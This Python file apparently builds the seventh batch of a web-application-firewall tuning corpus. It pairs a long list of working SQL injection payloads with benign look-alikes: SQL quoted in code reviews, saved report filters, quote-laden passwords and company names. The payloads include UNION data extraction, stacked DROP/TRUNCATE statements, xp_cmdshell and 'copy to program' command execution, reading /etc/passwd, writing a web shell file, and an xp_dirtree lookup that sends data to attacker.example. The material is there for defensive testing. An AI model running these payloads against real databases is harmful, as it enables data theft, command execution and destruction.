# ruff: noqa: E501 - payload and sample lists read best one line each
"""Seventh batch of the WAF tuning corpus (round 6, issue 15): the SQL family and its twins.

Written from public knowledge only -- PayloadsAllTheThings (SQL injection per
database: MySQL, PostgreSQL, MSSQL, Oracle, SQLite), sqlmap's tamper scripts
(``space2comment``, ``between``, ``equaltolike``, ``symboliclogical``,
``versionedmorekeywords``, ``commalesslimit``, ``concat2concatws``, ...), the
OWASP CRS 942xxx rule logic and the kinds of token sequences libinjection
fingerprints -- and never from a held-out set.

Round 6 is about the SQL family's false positives: text that *contains* SQL
without breaking out of anything.  Every attack family comes with the benign
traffic nearest to it:

* quote-break injections, comment truncation, stacked queries, tautologies,
  blind/time/error-based and UNION extraction, tamper-script spellings --
  against code-review comments quoting SQL (backticks, fenced blocks, inline
  statements) and saved report queries and SQL-like filters users store
  through an API (``SELECT ... FROM ... WHERE ... GROUP BY``, Kusto-, LogQL-,
  JQL-like filters, ``status = 'open' AND priority > 2``);
* short injections in login fields -- against passwords full of quotes,
  brackets, ``;`` and ``|``;
* keyword-led payloads -- against people and companies named Union, Select,
  Drop or Null and search strings with ``or``, ``and`` and ``=``.

A seeded 30% is marked ``"split": "tune-test"``, as in batches 4 to 6; a salt
and RNG of its own keep the earlier batches byte-identical.
"""

from __future__ import annotations

import hashlib
import json
import random
from urllib.parse import quote, urlencode

from batch4 import _place, _ua

rng7 = random.Random(7171)
TEST_SHARE = 0.30

SQLI7 = [
    # quote breaks with a condition (MySQL, PostgreSQL, MSSQL, Oracle, SQLite)
    "' or 2>1 or '",
    "' or 'abc'<'abd' --",
    "admin' or '1'='1'/*",
    "x' or username is not null or 'a'='b",
    "' or exists(select 1 from users)--",
    "1' and ascii(substring((select password from users limit 1),1,1))>64--",
    "' and (select count(*) from information_schema.tables)>0 and ''='",
    "zz' or 1=1 limit 1 -- -",
    "\" or 1=1 -- -",
    "') or 1=1 limit 1;--",
    "'or''='",
    "1' rlike (select (case when (1=1) then 1 else 0x28 end)) and 'a'='a",
    "' and 1 in (select min(name) from sysobjects where xtype='U')--",
    "'-'",
    "' || '1'='1",
    "1' or '1' between '0' and '2",
    "' or 1 like 1--",
    "abc' or id is not null order by 1--",
    "%' or 1=1 or '%'='",
    "' or true--",
    "1' and false union select null,version(),null--",
    # UNION extraction, per database
    "' union select username, password from users--",
    "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
    "-5 union select 1,group_concat(column_name),3 from information_schema.columns where table_name='users'",
    "1 union select null,banner from v$version--",
    "' union select null, name from sqlite_master where type='table'--",
    "0 union all select 1,@@version,3#",
    "') union select 1,current_user,3 -- x",
    "1' union select 1,string_agg(usename,','),3 from pg_user--",
    "' UniOn SeLeCt 1,2,3 fRoM dual--",
    "1 /*!50000union*/ /*!50000select*/ 1,2,3",
    "1 UNION(SELECT(1),(2),(3))",
    "-1' union select 1,load_file('/etc/passwd'),3-- -",
    "x' union select 1,2 into outfile '/var/www/html/s.php'--",
    "1 union select * from (select 1)a join (select 2)b join (select 3)c",
    "' union select null,table_name from all_tables where rownum=1--",
    # stacked queries
    "1; drop table users",
    "1; DROP TABLE users --",
    "abc'; update users set role='admin' where name='bob'; --",
    "'; insert into users (name, role) values ('eve', 'admin')--",
    "1; exec master..xp_cmdshell 'whoami'--",
    "'; exec sp_configure 'show advanced options', 1; reconfigure--",
    "1); delete from sessions;--",
    "x'; select pg_sleep(10)--",
    "1; waitfor delay '0:0:10'--",
    "'; shutdown--",
    "1; create user hacker identified by 'pw'--",
    "';declare @q varchar(99);set @q='\\\\attacker.example\\x';exec master.dbo.xp_dirtree @q;--",
    "1;copy (select '') to program 'id'",
    "1'; truncate table audit_log; --",
    # comment truncation
    "admin'--",
    "admin' -- ",
    "admin')--",
    "root'#",
    "admin\"--",
    "admin'/**/--",
    "' ;--",
    "admin' ;#",
    "bob@example.com'--",
    # blind boolean / time / error
    "1 and substring(@@version,1,1)=5",
    "1 and (select substr(username,1,1) from users where rownum=1)='a'",
    "1' and sleep(5) and '1'='1",
    "1) and sleep(5)#",
    "' and benchmark(5000000,md5(1))--",
    "1 and 1=(select 1 from pg_sleep(5))",
    "' or pg_sleep(5)--",
    "1' and (select * from (select(sleep(5)))a)--",
    "' AND 1=dbms_pipe.receive_message('x',10)--",
    "';if (1=1) waitfor delay '0:0:5'--",
    "1 and extractvalue(1,concat(0x7e,(select database())))",
    "' and updatexml(null,concat(0x3a,version()),null)-- -",
    "1 and exp(~(select * from (select user())x))",
    "' and 1=cast((select version()) as int)--",
    "1 and 1=ctxsys.drithsx.sn(1,(select user from dual))",
    "' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)--",
    "1 and randomblob(500000000)",
    "1 or if(1=1,sleep(5),0)",
    "1 and case when (1=1) then 1 else 1/0 end=1",
    "1' and 1=(select case when (1=1) then 1 else to_char(1/0) end from dual)--",
    "1 and json_keys((select convert((select schema_name from information_schema.schemata limit 1) using utf8)))",
    # tamper-script spellings (sqlmap)
    "1'/**/or/**/1=1--",
    "1%27%20or%20%271%27%3D%271",
    "1' %26%26 '1'='1",
    "1' || 1=1 #",
    "1 and 1 between 0 and 2",
    "1 and 2>1",
    "1' and 'a' like 'a",
    "1 and greatest(ascii(substring(user(),1,1)),64)=64",
    "1 and ascii(mid(user(),1,1))>64",
    "1' and ifnull(ascii(substr(user(),1,1)),0)>64--",
    "-1 union select 1,concat_ws(0x3a,user,password),3 from mysql.user",
    "1 limit 1 offset 0 union select 1",
    "%bf%27 or 1=1 -- ",
    "1'%0aor%0a'1'='1",
    "1'%09or%091=1--",
    "'+or+1=1--",
    "1 %55nion %53elect 1,2,3",
    "1 un/**/ion sel/**/ect 1,2,3",
    "1 and char(49)=char(49)",
    "' or 0x61646d696e=0x61646d696e--",
    "1 and (select 0x41)=0x41",
    "' or 'a'=concat('a')--",
    "ad'||'min'--",
    "'; select chr(65)||chr(66)--",
    # numeric parameter injections
    "1 or 1=1",
    "1 OR 1=1--",
    "0 or true",
    "99 and 1=2 union select 1,2",
    "1 order by 10--",
    "1 group by 1,2,3--",
    "1 having 1=1",
    "(select 1)",
    "1-(select 0)",
    "if(now()=sysdate(),sleep(5),0)",
    "(select(0)from(select(sleep(5)))v)",
    "1*(select 1 from dual)",
    # JSON / ORM filter injections
    "' or data->>'role'='admin'--",
    "x' or settings::text like '%admin%'--",
    "{\"$where\": \"1=1\"} ' or 1=1--",
    "name asc, (select 1 from users where 1=1)",
    "id desc;select pg_sleep(5)",
    "(case when 1=1 then id else name end)",
    # second-order style values
    "O'Brien' or 1=1--",
    "Robert'); DROP TABLE Students;--",
    "john' and password like 'a%",
    "test' and (select 1)=1 and 'a'='a",
]

# -- benign twins --------------------------------------------------------------------------
# Code reviews and tickets quoting SQL: backticks, fenced blocks, inline statements.
REVIEW_SQL7 = [
    "Can we drop the `SELECT *` here and list the columns? `SELECT id, name FROM users WHERE tenant_id = ?` is enough.",
    "nit: `WHERE status = 'open' OR status = 'pending'` reads better as `status IN ('open', 'pending')`",
    "This query does a full scan:\n```sql\nSELECT o.id, o.total FROM orders o WHERE o.created_at > now() - interval '7 days' ORDER BY o.created_at DESC;\n```\nAdd an index on created_at.",
    "The migration runs `ALTER TABLE invoices ADD COLUMN paid_at timestamptz;` without a default, good.",
    "Please don't build the filter with f-strings: `cursor.execute(f\"SELECT * FROM users WHERE name = '{name}'\")` is injectable. Use parameters.",
    "`DELETE FROM sessions WHERE expires_at < now()` should run in batches, the table is huge.",
    "Why `LEFT JOIN` and not `JOIN`? Every order has a customer.",
    "I'd replace `COUNT(*)` with `COUNT(1)`... actually no difference in Postgres, ignore me.",
    "SELECT id FROM users WHERE email = %s -- this one is fine, it is parameterised",
    "```\nUPDATE accounts SET balance = balance - 10 WHERE id = 42;\nUPDATE accounts SET balance = balance + 10 WHERE id = 43;\n```\nThese two need a transaction.",
    "The report uses `GROUP BY region, month` but selects `product` too, MySQL allows it, Postgres won't.",
    "Use `ON CONFLICT (email) DO NOTHING` instead of catching the IntegrityError.",
    "Looks good. Minor: `ORDER BY 1` is fragile, name the column.",
    "`SELECT count(*) FROM events WHERE type = 'login' AND ts >= '2024-01-01'` takes 4s on prod.",
    "Is `NULL = NULL` ever true here? The `WHERE deleted_at = NULL` clause never matches, should be `IS NULL`.",
    "Before merging, run `EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 7;` on staging.",
    "We used to `TRUNCATE TABLE staging_events` every night; now the job deletes by date.",
    "`INSERT INTO audit (actor, action) VALUES ($1, $2)` -- good, parameters.",
    "The old code had `\" OR 1=1` in a test fixture to check escaping, keep that test.",
    "Suggestion:\n```sql\nWITH recent AS (\n  SELECT user_id, max(created_at) AS last_seen FROM logins GROUP BY user_id\n)\nSELECT u.name, r.last_seen FROM users u JOIN recent r ON r.user_id = u.id;\n```",
    "Rename the CTE, `t1` says nothing. Also `HAVING count(*) > 1` can move into the subquery.",
    "LGTM once `select * from orders where id = :id` uses the named parameter everywhere.",
    "Why is there a `UNION ALL` between the two report queries? A single `WHERE kind IN (...)` does it.",
    "`CREATE INDEX CONCURRENTLY idx_orders_customer ON orders (customer_id);` cannot run inside a transaction block.",
    "The view selects from `information_schema.columns` to list fields, fine for the admin page only.",
    "`-- TODO: remove after backfill` is left in the migration, please delete it.",
    "We call `pg_sleep(1)` in the integration test to wait for replication; can we poll instead?",
    "In MySQL `SELECT @@version` tells you the server version, handy for the support script.",
    "Double-check `WHERE name LIKE '%' || :q || '%'` escapes % and _ in the user input.",
    "SELECT name, COUNT(*) FROM products GROUP BY name HAVING COUNT(*) > 1; -- finds the duplicates I mentioned",
    "The query `SELECT id FROM t WHERE a = 1 AND b = 2` uses the (a, b) index, checked with EXPLAIN.",
    "please squash; also `DROP TABLE IF EXISTS tmp_import;` at the end of the script",
    "`coalesce(discount, 0)` avoids the NULL total we saw yesterday.",
    "Use `SELECT ... FOR UPDATE SKIP LOCKED` for the job queue.",
    "Nice cleanup. `CASE WHEN qty > 0 THEN 'in stock' ELSE 'sold out' END` could live in the view.",
    "```sql\n-- nightly rollup\nINSERT INTO daily_totals (day, total)\nSELECT date_trunc('day', created_at), sum(amount) FROM payments GROUP BY 1;\n```",
    "Is `LIMIT 50 OFFSET 100000` going to be slow? Keyset pagination: `WHERE id > :last ORDER BY id LIMIT 50`.",
    "Tests pass. The fixture still inserts `'O''Brien'` to check quoting.",
    "I think `ORDER BY created_at DESC, id DESC` gives a stable order.",
    "select distinct customer_id from orders where total > 100 -- should this be >= ?",
    "Reminder: the replica lags, so `SELECT` right after `INSERT` may miss the row.",
    "Could you `GRANT SELECT ON reports TO analyst;` in the migration instead of by hand?",
    "`SELECT 1` is our health check query, keep it that cheap.",
    "The bug was `AND` binding tighter than `OR`: `a = 1 OR b = 2 AND c = 3` needs parentheses.",
    "Replace the loop with one statement: UPDATE items SET price = price * 1.1 WHERE category = 'books';",
    "review: select u.id, u.email from users u where u.active = true and u.created_at < '2023-01-01' order by u.id",
    "This `JOIN orders ON orders.user_id = users.id AND orders.status <> 'void'` filter belongs in WHERE.",
    "We should never concatenate: `\"SELECT * FROM items WHERE id = \" + id` -- use a placeholder.",
    "Is `SELECT * FROM users WHERE 1=1` in the query builder intentional? It makes appending AND clauses easy but looks odd.",
    "`--` comments in the SQL file break the naive splitter; strip them first.",
]

# Saved report queries and SQL-like filters users store through an API.
DSL7 = [
    "SELECT region, sum(amount) FROM sales WHERE year = 2024 GROUP BY region ORDER BY 2 DESC",
    "select count(*) from tickets where status = 'open' and priority > 2",
    "SELECT customer_id, COUNT(*) AS orders FROM orders WHERE created_at >= '2024-01-01' GROUP BY customer_id HAVING COUNT(*) > 5",
    "status = 'open' AND priority > 2",
    "status = 'open' OR status = 'pending'",
    "assignee = currentUser() AND resolution = Unresolved ORDER BY priority DESC",
    "project = OPS AND labels in (backend, api) AND created >= -7d",
    "type = 'bug' and severity in ('high', 'critical')",
    "requests | where status >= 500 | summarize count() by bin(timestamp, 5m)",
    "StormEvents | where State == 'TEXAS' and EventType == 'Flood' | project StartTime, DamageProperty",
    "{app=\"api\", env=\"prod\"} |= \"error\" | json | status >= 500",
    "sum by (service) (rate(http_requests_total{code=~\"5..\"}[5m]))",
    "country = 'PT' and age >= 18 and newsletter = true",
    "SELECT date_trunc('week', created_at) AS week, count(*) FROM signups GROUP BY 1 ORDER BY 1",
    "SELECT * FROM events WHERE name = 'checkout' AND props->>'plan' = 'pro' LIMIT 100",
    "name LIKE 'Acme%' AND city = 'Lisbon'",
    "total > 100 and (currency = 'EUR' or currency = 'USD')",
    "tags CONTAINS 'urgent' AND NOT archived",
    "select avg(duration_ms) from requests where route = '/api/orders' and ts > now() - interval '1 hour'",
    "SELECT product, SUM(qty) FROM order_lines GROUP BY product ORDER BY SUM(qty) DESC LIMIT 10",
    "where: status != 'closed' and owner = 'me'",
    "filter=status eq 'active' and createdAt gt 2024-01-01",
    "price between 10 and 50 and in_stock = 1",
    "SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 500",
    "level = \"error\" and service = \"billing\" and not message ~ \"timeout\"",
    "category = 'books' OR category = 'music'",
    "select name, email from contacts where company = 'Union Pacific' order by name",
    "SELECT id, title FROM posts WHERE published = true ORDER BY published_at DESC LIMIT 20 OFFSET 40",
    "source = 'web' AND (utm_campaign = 'spring' OR utm_campaign = 'summer')",
    "SELECT month, revenue, revenue - lag(revenue) OVER (ORDER BY month) AS delta FROM monthly_revenue",
    "SELECT COUNT(DISTINCT user_id) FROM sessions WHERE started_at::date = current_date",
    "event = 'purchase' | stats sum(amount) by country",
    "index=web sourcetype=access_combined status=404 | top limit=10 uri",
    "duration > 2s and method = \"POST\"",
    "SELECT team, percentile_cont(0.9) WITHIN GROUP (ORDER BY latency) FROM deploys GROUP BY team",
    "priority = 1 or priority = 2",
    "select * from invoices where paid = false and due_date < current_date",
    "SELECT sku, stock FROM inventory WHERE stock < reorder_level",
    "owner = 'ana' and status in ('todo', 'doing')",
    "SELECT DISTINCT country FROM customers WHERE country IS NOT NULL ORDER BY country",
    "SELECT id FROM orders WHERE note IS NULL OR note = ''",
    "amount >= 1000 AND approved = false",
    "SELECT channel, count(*) FILTER (WHERE converted) * 100.0 / count(*) AS rate FROM visits GROUP BY channel",
    "updated_at > '2024-05-01' and deleted = 0",
    "SELECT name FROM employees WHERE department = 'Sales' UNION SELECT name FROM contractors WHERE department = 'Sales'",
    "SELECT a.id FROM accounts a WHERE NOT EXISTS (SELECT 1 FROM payments p WHERE p.account_id = a.id)",
    "SELECT title FROM films WHERE rating = 'PG-13' AND length > 120 ORDER BY title",
    "SELECT * FROM logs WHERE level = 'ERROR' AND message LIKE '%timeout%' ORDER BY ts DESC LIMIT 50",
    "vendor = 'Drop Box Ltd' and spend > 0",
    "SELECT store, SUM(total) FROM receipts WHERE day BETWEEN '2024-01-01' AND '2024-01-31' GROUP BY store",
]

# Passwords with quotes, brackets, ; and | (login forms send them as they are).
PASSWORDS7 = [
    "Tr0ub4dor&3'x",
    "p@ss'word;1",
    "'Summer2024!",
    "hunter2';",
    "N0t-'my'-p4ss",
    "c0rrect|horse|battery|staple",
    "]x[0;'|Q",
    "\"quoted\"Pass1",
    "a'b\"c`d",
    "S3cr3t--",
    "pa$$w0rd#1",
    "1=1isMyPass",
    "Or'ange#42",
    "(Drop)Bear_77",
    "x;y|z'w",
    "--Ab12cd34--",
    "my'p4ss--word",
    "sel3ct!';",
    "Un1on'Jack",
    "9'o'clock",
    "tea&biscuits;'",
    "/*gH7!kL*/",
    "#hashtag'Pass",
    "%'_x9",
    "wh0'sThere?",
]

# People and companies named Union, Select, Drop, Null; search strings with or/and/=.
NAMES7 = [
    "Union Pacific Railroad",
    "Select Comfort Corp",
    "Drop Table Games Ltd",
    "Jennifer Null",
    "Steve Null",
    "Rosa Union-Ortiz",
    "Select Medical Holdings",
    "Order By Design",
    "Drop & Co.",
    "Credit Union of Ohio",
    "O'Neil & Union Partners",
    "Shaquille O'Neal",
    "D'Arcy Select",
    "Null & Void Records",
    "Waitfor Studios",
    "Mr. Sleep",
    "Benchmark Electronics",
]
SEARCH7 = [
    "cats or dogs",
    "rock and roll",
    "x = 5 solve",
    "1=1 meaning",
    "black or white and red",
    "e = mc2",
    "union select meaning",
    "how to drop table in mysql",
    "select all that apply",
    "size = large or medium",
    "or and not operators",
    "jack & jill",
    "price=10",
    "order by date",
    "null or empty string",
    "she said 'yes' or 'no'",
    "true or false quiz",
    "where is the union station",
]


def split_of(item_id: str) -> str:
    digest = hashlib.sha256(f"batch7:{item_id}".encode()).digest()
    return "tune-test" if digest[0] < int(256 * TEST_SHARE) else "tune"


def attacks7() -> list[dict]:
    r = rng7
    out: list[dict] = []
    for i, payload in enumerate(SQLI7):
        item_id = f"sqli-g{i:03d}"
        req = _place(payload, i + 7, r, header_ok="\n" not in payload and "\r" not in payload)
        out.append(
            {
                "id": item_id,
                "category": "sqli",
                "source": "tuning: seventh batch (SQL injection per database, sqlmap tampers)",
                "split": split_of(item_id),
                "request": req,
            }
        )
    return out


def benign7() -> list[dict]:
    r = rng7
    out: list[dict] = []

    def add(kind: str, req: dict) -> None:
        item_id = f"benign7-{kind}-{len(out):04d}"
        out.append(
            {
                "id": item_id,
                "category": "benign",
                "kind": kind,
                "source": "tuning: seventh batch (SQL twins)",
                "split": split_of(item_id),
                "request": req,
            }
        )

    def post(payload: object, path: str, method: str = "POST") -> dict:
        return {
            "method": method,
            "path": path,
            "query": "",
            "headers": {"user-agent": _ua(r), "content-type": "application/json"},
            "body": json.dumps(payload, ensure_ascii=r.random() < 0.5),
        }

    def get(path: str, query: str) -> dict:
        return {
            "method": "GET",
            "path": path,
            "query": query,
            "headers": {"user-agent": _ua(r), "accept": "application/json"},
            "body": None,
        }

    def form(path: str, fields: dict[str, str]) -> dict:
        return {
            "method": "POST",
            "path": path,
            "query": "",
            "headers": {"user-agent": _ua(r), "content-type": "application/x-www-form-urlencoded"},
            "body": urlencode(fields),
        }

    for text in REVIEW_SQL7:
        add(
            "code_review_sql",
            post(
                {"body": text, "format": "markdown"},
                r.choice(["/api/reviews/comments", "/api/pulls/88/comments", "/api/tickets/9/notes"]),
            ),
        )
    for i, text in enumerate(DSL7):
        if i % 3 == 0:
            add("sql_like_dsl", get(r.choice(["/api/reports/run", "/api/search", "/api/logs"]), f"q={quote(text, safe='')}"))
        else:
            add(
                "sql_like_dsl",
                post(
                    {"name": f"report {i}", "query": text, "shared": r.random() < 0.5},
                    r.choice(["/api/saved-queries", "/api/dashboards/3/widgets", "/api/alerts"]),
                ),
            )
    for i, pw in enumerate(PASSWORDS7):
        user = r.choice(["ana", "bob.smith", "li@example.com", "o'hara"])
        if i % 2 == 0:
            add("passwords", form("/login", {"username": user, "password": pw}))
        else:
            add("passwords", post({"email": user, "password": pw, "remember": True}, "/api/v2/sessions"))
    for name in NAMES7:
        add("names", post({"name": name, "country": "US"}, r.choice(["/api/v2/customers", "/api/v2/contacts"])))
    for text in SEARCH7:
        add("search_query", get(r.choice(["/api/search", "/search"]), f"q={quote(text, safe='')}"))
    return out
